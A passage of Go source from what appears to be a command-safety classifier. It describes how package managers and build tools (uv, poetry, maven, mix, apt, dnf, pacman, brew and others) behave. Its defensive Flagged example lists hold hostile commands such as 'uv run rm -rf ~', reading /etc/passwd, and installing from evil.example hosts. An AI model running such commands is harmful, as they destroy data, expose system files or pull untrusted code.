				"plugin", does(Config, ""), "init", does(Write, ""), "gem", does(Write, ""), "version", lists("")),
			ReadOnly: []string{"bundle --version", "bundle version"},
			Flagged:  []string{"bundle exec /bin/sh", "bundle exec rake", "bundle install", "bundle console", "bundle help", "bundle list", "bundle config set path /tmp"}},
		&Spec{Names: n("composer"), Grant: Grant{Depth: 1, Offers: []string{"composer build x => Bash(composer build:*)"}}, Effect: RunsProject, OtherSubcommand: RunsProject,
			// Scripts run on install and update, plugins on nearly every
			// command, and any unknown name may be a script.
			Options: "-V:h --version:h -h:h --help:h -q --quiet -v -vv -vvv --verbose -n --no-interaction --profile --no-plugins --no-scripts -d= --working-dir= --no-cache --ansi --no-ansi",
			Subcommands: subs("exec", runsCmd("-l --list"), "run-script", does(RunsProject, ""), "run", does(RunsProject, ""), "global", does(Config, ""), "config", does(Config, ""),
				"self-update", does(Config, ""), "selfupdate", does(Config, ""), "browse", does(Exec, ""), "home", does(Exec, ""), "search", does(Network, ""),
				"outdated", does(Network, ""), "audit", does(Network, ""), "diagnose", does(Network, ""), "clear-cache", does(Delete, ""), "clearcache", does(Delete, ""), "cc", does(Delete, "")),
			ReadOnly: []string{"composer --version", "composer -V"},
			Flagged:  []string{"composer run-script x", "composer install", "composer exec sh", "composer test", "composer global require evil/pkg", "composer show"}},
		&Spec{Names: n("pipx"), OtherSubcommand: Unknown,
			Options: "--version:h -h:h --help:h -v --verbose -q --quiet --global",
			Subcommands: subs("run", runsCmd("--spec= --no-cache --pypackages --python= --system-site-packages --index-url=n -i=n --pip-args= --editable -e --fetch-missing-python --path"),
				"install", does(Config, ""), "install-all", does(Config, ""), "inject", does(Config, ""), "upgrade", does(Config, ""), "upgrade-all", does(Config, ""),
				"upgrade-shared", does(Config, ""), "reinstall", does(Config, ""), "reinstall-all", does(Config, ""), "ensurepath", does(Config, ""), "runpip", does(Config, ""),
				"pin", does(Config, ""), "unpin", does(Config, ""), "interpreter", does(Config, ""), "uninject", does(Config, ""), "uninstall", does(Config, ""), "uninstall-all", does(Config, ""),
				"list", lists("--include-injected --json --short --skip-maintenance --pinned"), "environment", lists("--value= -V="), "completions", lists("")),
			ReadOnly: []string{"pipx --version", "pipx list", "pipx environment"},
			Flagged:  []string{"pipx run /tmp/evil.py", "pipx run cowsay", "pipx install black", "pipx ensurepath", "pipx frobnicate"}},
		uvInsecure(&Spec{Names: n("uv"), Code: Code{ShellSetup: "completion"}, Grant: Grant{Depth: 1, Deeper: "pip run tool", ExactSubs: "tool", Offers: []string{"uv build x => Bash(uv build:*)", "uv pip dev --x => Bash(uv pip dev:*)", "uv tool x => Bash(uv tool x)"}}, OtherSubcommand: Unknown,
			Options: "-V:h --version:h -h:h --help:h -q --quiet -v --verbose --color= --native-tls --offline --no-cache -n --cache-dir= --python= -p= --directory= --project= " +
				"--config-file=u --no-config --no-progress --preview --no-preview --managed-python --no-managed-python --no-python-downloads " + uvInsecureOpt,
			Subcommands: subs("run", runsCmd("--with= --with-requirements=r --extra= --all-extras --no-dev --group= --only-group= --isolated --frozen --locked --no-sync --package= --script -s --module -m --python= -p= --env-file=r --no-project"),
				"tool", &Spec{Options: "-h:h --help:h", Subcommands: subs("run", runsCmd("--from= --with= --python= -p="), "install", does(Config, ""), "upgrade", does(Config, ""),
					"uninstall", does(Config, ""), "list", lists("--show-paths --show-version-specifiers"), "dir", lists("--bin"), "update-shell", does(Config, ""))},
				"pip", &Spec{Options: "-h:h --help:h", Subcommands: subs("install", does(RunsProject, ""), "sync", does(RunsProject, ""), "compile", does(Network, ""),
					"uninstall", does(Delete, ""), "list", lists("--format= --outdated:n -e --editable --exclude-editable --strict --python= -p= --system"),
					"show", lists("--files --python= -p= --system"), "freeze", lists("--exclude-editable --python= -p= --system"), "tree", lists("--depth= -d --invert --python= -p="), "check", lists("--python= -p="))},
				"python", &Spec{Options: "-h:h --help:h", Subcommands: subs("install", does(Config, ""), "uninstall", does(Config, ""), "pin", does(Write, ""),
					"list", lists("--only-installed --all-versions --all-platforms"), "find", lists(""), "dir", lists(""))},
				"sync", does(RunsProject, ""), "lock", does(Network, ""), "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "build", does(RunsProject, ""),
				"export", does(Network, ""), "tree", does(Network, ""), "venv", does(Write, ""), "init", does(Write, ""), "publish", uvPublish, "version", does(Write, ""),
				"format", does(Write, ""), "cache", does(Delete, ""), "self", does(Config, ""), "help", lists(""), "generate-shell-completion", lists("")),
			ReadOnly: []string{"uv --version", "uv pip list", "uv pip freeze", "uv tool list"},
			Flagged:  []string{"uv run /bin/sh", "uv run rm -rf ~", "uv run pytest", "uv tool run ruff", "uv pip install requests", "uv tool install evil", "uv frobnicate"}}),
		&Spec{Names: n("uvx"), Effect: Exec, Command: true, Options: "-h:h --help:h --version:h --from= --with= --with-requirements=r --python= -p= --isolated --no-cache -q --quiet -v --verbose --offline --index-url=n --extra-index-url=n --refresh " + uvInsecureOpt,
			Raises:   []Raise{uvInsecureRaise("uvx --allow-insecure-host pypi.x.example ruff", "uvx --trusted-host=pypi.x.example ruff check")},
			ReadOnly: []string{"uvx --version"}, Flagged: []string{"uvx ruff check", "uvx --from evil-pkg x"}},
		&Spec{Names: n("poetry"), Code: Code{ShellSetup: "completion"}, Lasting: Lasting{Does: Publishes, Subs: "publish", Examples: []string{"poetry publish => publishes a package or release"}}, Grant: Grant{Depth: 1, Deeper: "run", Offers: []string{"poetry build x => Bash(poetry build:*)", "poetry run dev --x => Bash(poetry run dev:*)"}}, OtherSubcommand: Unknown,
			Options: "-V:h --version:h -h:h --help:h -q --quiet -v -vv -vvv --verbose -n --no-interaction --ansi --no-ansi --no-plugins --no-cache -C= --directory= -P= --project=",
			Subcommands: subs("run", runsCmd(""), "shell", does(Exec, ""), "install", does(RunsProject, ""), "update", does(RunsProject, ""), "add", does(RunsProject, ""),
				"remove", does(RunsProject, ""), "lock", does(Network, ""), "build", does(RunsProject, ""), "sync", does(RunsProject, ""), "check", does(RunsProject, ""),
				"publish", poetryPublish, "search", does(Network, ""), "init", does(Write, ""), "new", does(Write, ""), "export", does(Write, ""), "config", does(Config, ""),
				"source", does(Config, ""), "self", does(Config, ""), "cache", does(Delete, ""), "env", &Spec{Options: "-h:h --help:h", Subcommands: subs("info", lists("-p --path -e --executable"),
					"list", lists("--full-path"), "use", does(Config, ""), "remove", does(Delete, ""), "activate", lists(""))},
				"show", lists("--why --with= --without= --only= --no-dev -t --tree -l:n --latest:n -o:n --outdated:n -a --all --top-level"), "version", &Spec{Permute: true, Operands: "-*", Effect: Write, EffectWithOperands: true, Options: "-h:h --help:h -s --short --dry-run --next-phase"},
				"about", lists(""), "list", lists(""), "help", lists(""), "debug", lists("")),
			ReadOnly: []string{"poetry --version", "poetry show --tree", "poetry env info", "poetry version"},
			Flagged:  []string{"poetry run python /tmp/x.py", "poetry shell", "poetry install", "poetry version patch", "poetry config repositories.x https://evil.example", "poetry frobnicate"}},
		&Spec{Names: n("gradle", "gradlew"), Grant: Grant{Depth: 1, Offers: []string{"gradle build x => Bash(gradle build:*)"}}, Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
			// The build scripts are code; an init script runs before them.
			// -m|--dry-run runs the build with every task action disabled
			// (docs.gradle.org command-line interface): publish tasks
			// send nothing.
			Options:  "-v:h --version:h -h:h --help:h -I=l --init-script=l -b= --build-file= -c= --settings-file= -p= --project-dir= -g= --gradle-user-home= -D= -P= -x= --exclude-task= --console= --scan:n -m|--dry-run",
			ReadOnly: []string{"gradle --version"},
			Flagged:  []string{"gradle build", "./gradlew test", "./gradlew --help", "gradle -I /tmp/evil.gradle help", "gradle tasks"}},
		&Spec{Names: n("mvn", "mvnw"), Grant: Grant{Depth: 1, Offers: []string{"mvn build x => Bash(mvn build:*)"}}, Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
			// The deploy goals and phases among the goals publish what the
			// build makes (mvnw is the project's wrapper around mvn).
			Raises: []Raise{{Kind: danger.PublishDeploy, Why: "mvn deploy publishes artifacts", Operand: "deploy release:perform deploy:deploy-file",
				Flagged: []string{"mvn deploy", "mvn -P release deploy", "./mvnw -f pom.xml deploy", "mvn -pl api clean deploy", "mvnw deploy", "mvn -B release:perform", "/usr/share/maven/bin/mvn --file pom.xml deploy:deploy-file -Dfile=x.jar"},
				Passes:  []string{"mvn -P deploy package", "./mvnw -f deploy verify", "mvn -pl deploy install", "mvn --version"}}},
			// The pom's plugins are code; exec:exec and exec:java run
			// what -Dexec.executable and -Dexec.mainClass name, which
			// shell/code.go judges.
			// Maven 3.8.7 (Apache Commons CLI's GnuParser, tried here):
			// short names of several letters taken whole (-pl core,
			// -pl=core, -amd; -plcore is refused), long names whole
			// (--proj is refused), no bundling (-Bq is -B and a goal q).
			Options: "-v|--version:h -h|--help:h -f= --file= -s=u --settings=u -gs|--global-settings=u -t|--toolchains=u -gt|--global-toolchains=u -D|--define= " +
				"-P|--activate-profiles= -pl|--projects= -am|--also-make -amd|--also-make-dependents -rf|--resume-from= -b|--builder= -l|--log-file=w " +
				"-emp|--encrypt-master-password= -ep|--encrypt-password= -T|--threads= -q|--quiet -B|--batch-mode -o|--offline -e|--errors -X|--debug " +
				"-U|--update-snapshots -C|--strict-checksums -c|--lax-checksums -cpu|--check-plugin-updates -fae|--fail-at-end -ff|--fail-fast -fn|--fail-never " +
				"-llr|--legacy-local-repository -N|--non-recursive -npr|--no-plugin-registry -npu|--no-plugin-updates -nsu|--no-snapshot-updates " +
				"-ntp|--no-transfer-progress -up|--update-plugins -V|--show-version --color=",
			ReadOnly: []string{"mvn --version"},
			Flagged: []string{"mvn package", "mvn exec:exec -Dexec.executable=/bin/sh", "mvn exec:exec -Dexec.executable=curl", "mvn -s /tmp/settings.xml deploy", "./mvnw test", "./mvnw -v",
				"mvn -pl core -am package", "mvn -amd -pl=core -rf :core install", "mvn --projects core --also-make verify", "mvn exec:exec --define exec.executable=/bin/sh"}},
		&Spec{Names: n("ant"), Effect: RunsProject, LongDash: true, Permute: true, Operands: "-*",
			Options: "-help:h -h:h -version:h -diagnostics -q -quiet -silent -S -v -verbose -d -debug -e -emacs -lib=l -logfile=w -l=w -logger=l -listener=l -noinput -buildfile= -file= -f= " +
				"-D= -keep-going -k -propertyfile=r -inputhandler=l -find= -s= -nice= -nouserlib -noclasspath -autoproxy -main=l",
			ReadOnly: []string{"ant -version"},
			Flagged:  []string{"ant", "ant build", "ant -lib /tmp/evil.jar", "ant -main Evil"}},
		&Spec{Names: n("sbt"), Effect: RunsProject, Permute: true, Loose: true, Operands: "-*",
			// build.sbt is code; console starts a Scala REPL that reads
			// standard input.
			Options:         "-h:h --help:h -V:h --version:h --numeric-version:h --script-version:h",
			Subcommands:     subs("console", does(Exec, ""), "consoleQuick", does(Exec, ""), "consoleProject", does(Exec, "")),
			OtherSubcommand: RunsProject,
			ReadOnly:        []string{"sbt --version"},
			Flagged:         []string{"sbt compile", "sbt test", "sbt console", "sbt 'runMain Evil'"}},
		// dotnet ef (the dotnet-ef tool, EF Core 8: System.CommandLine
		// style options -f|--force, --dry-run): database drop drops the
		// database, unless --dry-run only says which.
		&Spec{Names: n("dotnet"), Grant: Grant{Depth: 1, Deeper: "ef tool", Offers: []string{"dotnet build x => Bash(dotnet build:*)", "dotnet ef dev --x => Bash(dotnet ef dev:*)"}}, OtherSubcommand: Unknown,
			// fsi is F# interactive: it reads code from standard input.
			Options: "--version:h --info:h --list-sdks:h --list-runtimes:h -h:h --help:h -d --diagnostics",
			Subcommands: subs("build", does(RunsProject, ""), "test", does(RunsProject, ""), "run", does(RunsProject, ""), "restore", does(RunsProject, ""), "publish", does(RunsProject, ""),
				"pack", does(RunsProject, ""), "clean", does(RunsProject, ""), "watch", does(RunsProject, ""), "msbuild", does(RunsProject, ""), "build-server", does(RunsProject, ""),
				"format", does(RunsProject, ""), "ef", dotnetEF, "add", does(RunsProject, ""), "remove", does(RunsProject, ""), "list", does(RunsProject, ""),
				"store", does(RunsProject, ""), "vstest", does(RunsProject, ""), "fsi", does(Exec, ""), "exec", runsCmd(""),
				"tool", &Spec{Options: "-h:h --help:h", Subcommands: subs("run", runsCmd(""), "install", does(Config, ""), "update", does(Config, ""), "uninstall", does(Config, ""),
					"restore", does(RunsProject, ""), "list", lists("-g --global --local --tool-path="), "search", does(Network, ""))},
				"new", does(Write, ""), "sln", does(Write, ""), "nuget", dotnetNuget, "dev-certs", does(Config, ""), "workload", does(Config, ""), "sdk", does(Network, ""),
				"help", lists("")),
			ReadOnly: []string{"dotnet --version", "dotnet --info", "dotnet --list-sdks", "dotnet tool list -g"},
			Flagged:  []string{"dotnet fsi", "dotnet run", "dotnet build", "dotnet tool run evil", "dotnet dev-certs https --trust", "dotnet /tmp/evil.dll"}},
		&Spec{Names: n("swift"), Grant: Grant{Depth: 1, Offers: []string{"swift build x => Bash(swift build:*)"}}, Effect: Exec, OtherSubcommand: Unknown,
			// swift alone starts the REPL; Package.swift is code.
			Options: "--version:h -version:h -h:h --help:h",
			Subcommands: subs("build", does(RunsProject, ""), "test", does(RunsProject, ""), "run", does(RunsProject, ""), "package", does(RunsProject, ""), "package-registry", swiftRegistry,
				"repl", does(Exec, ""), "sdk", does(Config, ""), "help", lists("")),
			ReadOnly: []string{"swift --version"},
			Flagged:  []string{"swift", "swift repl", "swift build", "swift package resolve", "swift /tmp/evil.swift"}},
		&Spec{Names: n("mix"), Grant: Grant{Depth: 1, Offers: []string{"mix build x => Bash(mix build:*)"}}, Effect: RunsProject, OtherSubcommand: RunsProject, Lang: LangElixir,
			// mix.exs and every task are code; mix run -e and mix eval
			// run code given on the command line, mix cmd a command.
			Options: "-v:h --version:h -h:h --help:h",
			Subcommands: subs("cmd", runsCmd("--app="), "run", does(RunsProject, "-e=k --eval=k -r=l --require=l"), "eval", &Spec{Lang: LangElixir, Operands: "c -*", Loose: true, Effect: RunsProject},
				"format", does(Write, ""), "clean", does(Delete, ""), "deps.clean", does(Delete, ""), "archive.install", does(Config, ""), "local.hex", does(Config, ""),
				"local.rebar", does(Config, ""), "escript.install", does(Config, ""), "hex.publish", does(Network, ""), "help", does(RunsProject, ""),
				"ecto.drop", ectoDrops("ecto.drop"), "ecto.reset", ectoDrops("ecto.reset"),
				"do", &Spec{Effect: RunsProject, Permute: true, Loose: true, Operands: "-*", Options: "-h:h --help:h",
					Raises: []Raise{{Kind: danger.DBDestructive, Operand: "ecto.drop ecto.drop,* ecto.reset ecto.reset,*", Why: "{prog} do {value} drops the database",
						Flagged: []string{"mix do ecto.drop + ecto.create", "mix do ecto.drop, ecto.create", "mix do deps.get + ecto.reset"}, Passes: []string{"mix do deps.get + compile", "mix do ecto.create + ecto.migrate"}}}}),
			ReadOnly: []string{"mix --version"},
			Flagged:  []string{"mix test", "mix run -e 'System.cmd(\"sh\", [\"-c\", \"id\"])'", "mix eval 'File.read!(\"/etc/passwd\")'", "mix cmd sh -c id", "mix archive.install https://evil.example/x.ez"}},
	)
})

// The system package managers. Installing, removing and upgrading change
// the system's software (Config: lasting, outside the project, and run
// the packages' maintainer scripts as root); refreshing the package lists
// talks to the mirrors and rewrites the system's cache (Config too).
// Listings, searches and package information read the local database and
// are read-only; a simulation (apt-get -s) is too.
var _ = family("system-packages", func(add func(...*Spec)) {
	// apt 2.6.1 (observed): APT's CommandLine permutes (apt-get install -s
	// x), bundles (-sy), takes -oKEY=VALUE attached or apart, a value to
	// a boolean (--simulate=1), and no prefixes (apt list --inst is
	// refused). -o and -c set any configuration, hooks that run commands
	// (DPkg::Pre-Invoke) included: unknown.
	const aptOpts = "-h|--help:h -v|--version:h -q|--quiet -y|--yes|--assume-yes --assume-no -s|--simulate|--just-print|--dry-run|--recon|--no-act " +
		"-d|--download-only -f|--fix-broken -m|--ignore-missing|--fix-missing --no-download -u|--show-upgraded -V|--verbose-versions -a|--host-architecture= " +
		"-b|--compile|--build -P|--build-profiles= --no-install-recommends --install-recommends --install-suggests --no-install-suggests --reinstall --purge " +
		"--auto-remove|--autoremove --only-upgrade --no-upgrade --with-new-pkgs --allow-downgrades --allow-remove-essential --allow-change-held-packages " +
		"--allow-unauthenticated --allow-insecure-repositories --allow-releaseinfo-change -t|--target-release|--default-release= --trivial-only --no-remove " +
		"--force-yes --print-uris --list-cleanup --no-list-cleanup --mark-auto --arch-only --indep-only --ignore-hold -c|--config-file=u -o|--option=u " +
		"--installed --upgradable --manual-installed -a|--all-versions --full --names-only --recurse --no-pre-depends --no-depends --no-recommends --no-suggests " +
		"--no-conflicts --no-breaks --no-replaces --no-enhances --implicit -n|--names-only"
	aptDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Operands: "-*", Options: aptOpts, ReadWith: "--simulate"}
	}
	aptReads := &Spec{Permute: true, Operands: "-*", Options: aptOpts}
	aptSubs := func(own ...any) map[string]*Spec {
		m := subs("install", aptDoes(Config), "reinstall", aptDoes(Config), "remove", aptDoes(Config), "purge", aptDoes(Config), "autoremove", aptDoes(Config),
			"autopurge", aptDoes(Config), "upgrade", aptDoes(Config), "full-upgrade", aptDoes(Config), "dist-upgrade", aptDoes(Config), "update", aptDoes(Config),
			"satisfy", aptDoes(Config), "build-dep", aptDoes(Config), "clean", aptDoes(Config), "autoclean", aptDoes(Config), "auto-clean", aptDoes(Config),
			"download", aptDoes(Network), "source", aptDoes(Network), "changelog", aptDoes(Network), "check", aptReads, "help", aptReads, "moo", aptReads)
		for k, v := range subs(own...) {
			m[k] = v
		}
		return m
	}
	// dnf 4 (argparse: options anywhere, unique prefixes of long options,
	// short flags bundle); yum is dnf on every current system.
	const dnfOpts = "-h|--help:h --version:h -y|--assumeyes --assumeno -q|--quiet -v|--verbose -C|--cacheonly --refresh -c|--config=u --setopt=u --installroot= " +
		"--releasever= --enablerepo= --disablerepo= --repo|--repoid= -x|--exclude= --disableexcludes= --nogpgcheck --noplugins --enableplugin= --disableplugin= " +
		"--best --nobest --allowerasing --noautoremove --skip-broken --downloadonly --downloaddir|--destdir= --nodocs --color= --comment= --showduplicates " +
		"--obsoletes --security --bugfix --enhancement --newpackage --advisory|--advisories= --cve|--cves= --bz|--bzs= --sec-severity|--secseverity= " +
		"--forcearch= -4 -6 -b -d|--debuglevel= -e|--errorlevel= --rpmverbosity= -R|--randomwait= --installed --available --extras --updates --upgrades " +
		"--autoremove --recent --all --disabled --enabled"
	dnfDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: dnfOpts}
	}
	dnfReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: dnfOpts}
	dnf := subs("install", dnfDoes(Config), "in", dnfDoes(Config), "reinstall", dnfDoes(Config), "remove", dnfDoes(Config), "rm", dnfDoes(Config),
		"erase", dnfDoes(Config), "upgrade", dnfDoes(Config), "update", dnfDoes(Config), "up", dnfDoes(Config), "downgrade", dnfDoes(Config),
		"distro-sync", dnfDoes(Config), "autoremove", dnfDoes(Config), "clean", dnfDoes(Config), "makecache", dnfDoes(Config), "mark", dnfDoes(Config),
		"swap", dnfDoes(Config), "group", dnfDoes(Config), "module", dnfDoes(Config), "history", dnfDoes(Config), "config-manager", dnfDoes(Config),
		"copr", dnfDoes(Config), "builddep", dnfDoes(Config), "versionlock", dnfDoes(Config), "shell", dnfDoes(Exec), "download", dnfDoes(Network),
		"list", dnfReads, "ls", dnfReads, "info", dnfReads, "if", dnfReads, "search", dnfReads, "se", dnfReads, "provides", dnfReads, "whatprovides", dnfReads,
		"wp", dnfReads, "repolist", dnfReads, "repoinfo", dnfReads, "repoquery", dnfReads, "rq", dnfReads, "check-update", dnfReads, "check-upgrade", dnfReads,
		"updateinfo", dnfReads, "deplist", dnfReads, "help", dnfReads)
	// zypper (getopt_long: permuted, unique prefixes): global options
	// before the command, the command's own after it.
	zypperDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
	}
	zypperReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: "-h|--help:h -r|--repo= -i|--installed-only -u|--not-installed-only|--uninstalled-only " +
		"-s|--details -t|--type= -x|--match-exact --match-substrings --match-words --provides --requires --recommends --supplements --conflicts --obsoletes --suggests " +
		"-d|--search-descriptions -C|--case-sensitive --sort-by-name --sort-by-repo -a|--all -E|--show-enabled-only -U|--sort-by-uri -p|--sort-by-priority -N|--sort-by-name"}
	zypper := subs("search", zypperReads, "se", zypperReads, "info", zypperReads, "if", zypperReads, "list-updates", zypperReads, "lu", zypperReads,
		"list-patches", zypperReads, "lp", zypperReads, "packages", zypperReads, "pa", zypperReads, "patterns", zypperReads, "pt", zypperReads,
		"products", zypperReads, "pd", zypperReads, "repos", zypperReads, "lr", zypperReads, "services", zypperReads, "ls", zypperReads, "locks", zypperReads,
		"ll", zypperReads, "patch-check", zypperReads, "pchk", zypperReads, "what-provides", zypperReads, "wp", zypperReads, "search-packages", zypperReads,
		"needs-rebooting", zypperReads, "versioncmp", zypperReads, "vcmp", zypperReads, "targetos", zypperReads, "tos", zypperReads, "licenses", zypperReads, "help", zypperReads,
		"install", zypperDoes(Config), "in", zypperDoes(Config), "remove", zypperDoes(Config), "rm", zypperDoes(Config), "update", zypperDoes(Config), "up", zypperDoes(Config),
		"dist-upgrade", zypperDoes(Config), "dup", zypperDoes(Config), "patch", zypperDoes(Config), "refresh", zypperDoes(Config), "ref", zypperDoes(Config),
		"addrepo", zypperDoes(Config), "ar", zypperDoes(Config), "removerepo", zypperDoes(Config), "rr", zypperDoes(Config), "modifyrepo", zypperDoes(Config), "mr", zypperDoes(Config),
		"clean", zypperDoes(Config), "cc", zypperDoes(Config), "addlock", zypperDoes(Config), "al", zypperDoes(Config), "removelock", zypperDoes(Config), "rl", zypperDoes(Config),
		"source-install", zypperDoes(Config), "si", zypperDoes(Config), "verify", zypperDoes(Config), "ve", zypperDoes(Config), "install-new-recommends", zypperDoes(Config),
		"download", zypperDoes(Network), "shell", zypperDoes(Exec), "sh", zypperDoes(Exec))
	// apk (apk-tools 2, getopt_long): global options anywhere.
	const apkOpts = "-h|--help:h -V|--version:h -q|--quiet -v|--verbose -i|--interactive -p|--root= -X|--repository= --allow-untrusted --arch= --cache-dir= " +
		"--no-cache --no-network --no-progress --progress --purge --keys-dir= --repositories-file= -U|--update-cache --wait= --force-broken-world --force-overwrite " +
		"-L|--contents -W|--who-owns -R|--depends -r|--rdepends -P|--provides -I|--install-if -w|--webpage -s|--size -d|--description -e|--installed -a|--all " +
		"-x|--exact -o|--origin --available --upgradable --orphaned -l|--limit= -t|--virtual="
	apkDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Abbrev: true, Loose: true, Operands: "-*", Options: apkOpts}
	}
	apkReads := &Spec{Permute: true, Abbrev: true, Operands: "-*", Options: apkOpts}
	// snap (go-flags): options anywhere, short flags bundle, no prefixes.
	snapDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
	}
	snapReads := &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h --all --color= --unicode= --abs-time --verbose --private --narrow --section= " +
		"--channel= --abs-time --no-wait -n= -f --follow --global -d --document -l --list --connected --disconnected --revision= --last= --remote --verbose"}
	// MacPorts port (Tcl): global short flags bundle and come before the
	// action; -y is a dry run.
	portDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
	}
	portReads := &Spec{Permute: true, Loose: false, Operands: "-*", Options: "-h|--help:h --summary --index --line --exact --glob --regex --case-sensitive --name " +
		"--description --long_description --homepage --category --categories --maintainer --maintainers --depends --fullname --version --revision --epoch --variants " +
		"--variant --platform --platforms --license --pretty --no-build --no-test --full --size --units= --active --inactive --requested --unrequested --leaf"}
	// brew (Homebrew's CLI::Parser over Ruby's OptionParser); every
	// command but the listings and the information may update Homebrew
	// itself first.
	brewDoes := func(e Effect) *Spec {
		return &Spec{Effect: e, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h"}
	}
	brewReads := &Spec{Permute: true, Operands: "-*", Options: "-h|--help:h -d|--debug -q|--quiet -v|--verbose --json? --installed --formula|--formulae --cask|--casks " +
		"--eval-all --all -1 -l -r -t --versions --pinned --full-name --multiple --tree --graph --include-build --include-optional --include-test --skip-recommended " +
		"--direct --recursive --analytics --days= --category= --github --desc --name --search --fetch-HEAD --greedy --greedy-latest --greedy-auto-updates --installed-on-request " +
		"--installed-as-dependency --missing --union --topological --annotate --dot --HEAD --oneline -n|--max-count= --quiet --variations --compact --command= --include-aliases"}
	// brew services VERB: stop, restart, kill and cleanup stop or restart
	// a running background service (medium: it is started again with one
	// command).
	brewSvc := func(verb string) *Spec {
		return &Spec{Effect: Config, Permute: true, Loose: true, Operands: "-*", Options: "-h|--help:h --all --file= --sudo-service-user= --max-wait= --no-wait --keep -d|--debug -q|--quiet -v|--verbose",
			Raises: []Raise{{Kind: danger.SystemConfig, Medium: true, Why: "{prog} services " + verb + " stops or restarts a background service",
				Flagged: []string{"brew services " + verb + " nginx", "brew services " + verb + " --all", "/opt/homebrew/bin/brew services " + verb + " postgresql", "sudo brew services " + verb + " nginx", "brew --verbose services " + verb + " nginx"},
				Passes:  []string{"brew services list", "brew services start nginx", "brew services " + verb + " --help", "brew install " + verb}}}}
	}
	brewServices := &Spec{Options: "-h|--help:h", OtherSubcommand: Config, Effect: None, Subcommands: subs("list", brewReads, "info", brewReads,
		"stop", brewSvc("stop"), "restart", brewSvc("restart"), "kill", brewSvc("kill"), "cleanup", brewSvc("cleanup"))}
	add(
		&Spec{Names: n("apt-get"), Grant: Grant{Depth: 1, ExactSubs: "install purge remove", Offers: []string{"apt-get install jq => Bash(apt-get install jq)", "apt-get check => Bash(apt-get check:*)"}},
			Options: aptOpts, Subcommands: aptSubs("indextargets", aptReads),
			ReadOnly: []string{"apt-get check", "apt-get -s install jq", "apt-get install -s jq", "apt-get -sy install jq", "apt-get --dry-run upgrade", "apt-get --version"},
			Flagged: []string{"apt-get install jq", "apt-get -y install jq", "apt-get install --yes jq", "apt-get purge nginx", "apt-get update", "apt-get -o Dpkg::Pre-Invoke::=/tmp/x install jq",
				"apt-get -oDPkg::Post-Invoke::=sh check", "apt-get frobnicate"}},
		&Spec{Names: n("apt"), Grant: Grant{Depth: 1, ExactSubs: "install purge remove", Offers: []string{"apt list --installed => Bash(apt list:*)", "apt install jq => Bash(apt install jq)"}},
			Options: aptOpts, Subcommands: aptSubs("list", aptReads, "search", aptReads, "show", aptReads, "showsrc", aptReads, "policy", aptReads, "depends", aptReads,
				"rdepends", aptReads, "edit-sources", aptDoes(Exec)),
			ReadOnly: []string{"apt list --installed", "apt list --upgradable", "apt search jq", "apt show jq", "apt policy jq", "apt depends jq", "apt -s install jq"},
			Flagged:  []string{"apt install jq", "apt -y remove nginx", "apt full-upgrade", "apt update", "apt edit-sources", "apt list -o APT::Update::Pre-Invoke::=sh", "apt list --inst"}},
		&Spec{Names: n("dnf", "yum"), Grant: Grant{Depth: 1, ExactSubs: "install remove erase", Offers: []string{"dnf info jq => Bash(dnf info:*)", "dnf install jq => Bash(dnf install jq)"}},
			Options: dnfOpts, Permute: true, Abbrev: true, Subcommands: dnf,
			ReadOnly: []string{"dnf info jq", "dnf list --installed", "dnf search jq", "yum list installed", "dnf repolist", "dnf --quiet provides /usr/bin/jq", "dnf list --installe"},
			Flagged:  []string{"dnf install jq", "dnf -y install jq", "yum remove nginx", "dnf upgrade --refresh", "dnf shell", "dnf --setopt=x=y list", "dnf makecache"}},
		// pacman 6 (getopt_long: permuted, unique prefixes, bundled):
		// the operation is an option; -Q, -T and -F without -y only read.
		&Spec{Names: n("pacman"), Grant: Grant{Exact: true, Offers: []string{"pacman -Qi jq => Bash(pacman -Qi jq)"}}, Effect: Config, Permute: true, Abbrev: true, Operands: "-*",
			ReadWith: "--query --deptest",
			Options: "-h|--help:h -V|--version:h -S|--sync -R|--remove -U|--upgrade -Q|--query -D|--database -T|--deptest -F|--files:c -y|--refresh:c -u|--sysupgrade " +
				"-s|--search|--recursive -i|--info -l|--list -c|--changelog|--clean -p|--print -n|--native|--nosave -k|--check -q|--quiet -e|--explicit -d|--deps|--nodeps " +
				"-t|--unrequired -g|--groups -o|--owns -w|--downloadonly -m|--foreign -v|--verbose --noconfirm --confirm --needed --asdeps --asexplicit --dbonly " +
				"--noscriptlet --noprogressbar --debug --disable-download-timeout --overwrite= --ignore= --ignoregroup= --assume-installed= --print-format= -r|--root= " +
				"-b|--dbpath= --config=u --cachedir= --hookdir= --gpgdir= --logfile=w --arch= --sysroot= --color=",
			ReadOnly: []string{"pacman -Q", "pacman -Qi jq", "pacman -Qs jq", "pacman --query --info jq", "pacman --que -l jq", "pacman -Qkk", "pacman -T jq"},
			Flagged:  []string{"pacman -S jq", "pacman -Syu", "pacman -R jq", "pacman -Rns jq", "pacman -U ./x.pkg.tar.zst", "pacman -Ss jq", "pacman -Qy", "pacman -Q --config /tmp/x.conf"}},
		&Spec{Names: n("zypper"), Grant: Grant{Depth: 1, ExactSubs: "install in remove rm", Offers: []string{"zypper search jq => Bash(zypper search:*)", "zypper install jq => Bash(zypper install jq)"}},
			Options: "-h|--help:h -V|--version:h -n|--non-interactive -q|--quiet -v|--verbose -x|--xmlout -t|--terse -s|--table-style= -i|--ignore-unknown --no-refresh " +
				"--no-color --no-abbrev --non-interactive-include-reboot-patches --no-gpg-checks --gpg-auto-import-keys --disable-repositories --disable-system-resolvables " +
				"-R|--root= -c|--config=u -D|--reposd-dir= -C|--cache-dir= --raw-cache-dir= --solv-cache-dir= --pkg-cache-dir= --userdata= -p|--plus-repo= --plus-content=",
